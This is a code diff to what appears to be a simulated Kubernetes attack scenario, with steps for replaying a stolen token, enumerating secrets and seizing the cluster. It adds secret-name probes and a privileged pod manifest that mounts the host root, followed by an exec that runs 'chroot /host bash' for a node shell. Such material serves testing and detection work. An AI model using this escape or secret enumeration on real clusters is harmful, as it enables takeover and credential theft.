@@ -87,20 +87,23 @@ fn steal_token(day: &mut Day, teller: &mut Teller, user: &User) {
         &pods,
         "pods are listed with the stolen token from outside",
     );
-    let everywhere = Request::core("list", "secrets", "", "")
-        .query("limit=500")
-        .forbidden();
-    ask(
-        day,
-        teller,
-        9,
-        &everywhere,
-        "secrets of all namespaces are refused",
-    );
-    let nodes = Request::core("list", "nodes", "", "")
-        .query("limit=500")
-        .forbidden();
-    ask(day, teller, 6, &nodes, "nodes are refused");
+    for (group, resource, namespace) in [
+        ("", "secrets", ""),
+        ("", "nodes", ""),
+        ("", "namespaces", ""),
+        ("", "configmaps", "kube-system"),
+        ("", "secrets", "kube-system"),
+        ("apps", "daemonsets", ""),
+        ("batch", "cronjobs", "billing"),
+        ("", "secrets", "billing"),
+        ("", "secrets", "data"),
+        ("rbac.authorization.k8s.io", "clusterroles", ""),
+        ("rbac.authorization.k8s.io", "clusterrolebindings", ""),
+    ] {
+        let list = Request::grouped("list", group, resource, namespace, "").query("limit=500");
+        let what = format!("listing {resource} is refused");
+        ask(day, teller, 4, &list.forbidden(), &what);
+    }
     for name in [
         "storefront-env",
         "orders-api-env",
@@ -111,6 +114,14 @@ fn steal_token(day: &mut Day, teller: &mut Teller, user: &User) {
         "session-signing",
         "newrelic-license",
         "redis-auth",
+        "maps-api",
+        "tax-api",
+        "fraud-api",
+        "crm-oauth",
+        "search-api",
+        "sentry-dsn",
+        "smtp-relay",
+        "webhook-signing",
         "deployer-token",
     ] {
         let get = Request::core("get", "secrets", "shop", name);
@@ -151,8 +162,8 @@ fn take_cluster(day: &mut Day, teller: &mut Teller, deployer: &User) {
         &secrets,
         "the secrets of all namespaces are listed",
     );
-    let pod = r#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-health-7c4f9","namespace":"kube-system","creationTimestamp":null,"labels":{"app":"node-health"}},"spec":{"volumes":[{"name":"root","hostPath":{"path":"/","type":""}}],"containers":[{"name":"health","image":"docker.io/library/alpine:3.20","command":["sleep","infinity"],"resources":{},"volumeMounts":[{"name":"root","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","nodeName":"ip-10-20-3-47.ec2.internal","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler"},"status":{}}"#;
-    let create = Request::core("create", "pods", "kube-system", NEW_POD)
+    let pod = r#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-health-7c4f9","namespace":"shop","creationTimestamp":null,"labels":{"app":"node-health"}},"spec":{"volumes":[{"name":"root","hostPath":{"path":"/","type":""}}],"containers":[{"name":"health","image":"docker.io/library/alpine:3.20","command":["sleep","infinity"],"resources":{},"volumeMounts":[{"name":"root","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","nodeName":"ip-10-20-3-47.ec2.internal","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler"},"status":{}}"#;
+    let create = Request::core("create", "pods", "shop", NEW_POD)
         .query("fieldManager=kubectl-client-side-apply")
         .body(pod);
     ask(
@@ -162,7 +173,7 @@ fn take_cluster(day: &mut Day, teller: &mut Teller, deployer: &User) {
         &create,
         "a privileged pod with the node's file system is created",
     );
-    let exec = Request::core("create", "pods", "kube-system", NEW_POD)
+    let exec = Request::core("create", "pods", "shop", NEW_POD)
         .sub("exec")
         .query("command=chroot&command=%2Fhost&command=bash&container=health&stdin=true&stdout=true&tty=true");
     ask(day, teller, 31, &exec, "a shell is opened in it");
